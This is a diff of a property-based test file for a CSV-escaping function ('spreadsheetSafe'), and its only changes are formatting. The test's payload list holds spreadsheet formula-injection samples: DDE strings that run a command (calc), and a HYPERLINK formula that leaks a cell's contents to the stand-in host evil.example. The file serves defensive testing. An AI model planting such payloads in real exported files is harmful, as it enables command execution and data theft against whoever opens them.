@@ -6,9 +6,9 @@ import { fromSpreadsheetSafe, spreadsheetSafe } from './spreadsheet-safe';
 const PAYLOADS = [
   "=cmd|' /C calc'!A0",
   '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
-  '+1+cmd|\' /C calc\'!A0',
-  '-2+3+cmd|\' /C calc\'!A0',
-  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  "+1+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
   '\t=1+1',
   '\r=1+1',
   ' =1+1',
@@ -25,7 +25,12 @@ describe('CSV cells a spreadsheet would run', () => {
   });
 
   it('never writes a cell a spreadsheet would run, and every cell comes back as it went', () => {
-    const cells = fc.oneof(fc.string(), fc.constantFrom(...PAYLOADS), fc.string().map((s) => `'${s}`), fc.string().map((s) => `''=${s}`));
+    const cells = fc.oneof(
+      fc.string(),
+      fc.constantFrom(...PAYLOADS),
+      fc.string().map((s) => `'${s}`),
+      fc.string().map((s) => `''=${s}`),
+    );
     fc.assert(
       fc.property(cells, (cell) => {
         const written = spreadsheetSafe(cell);
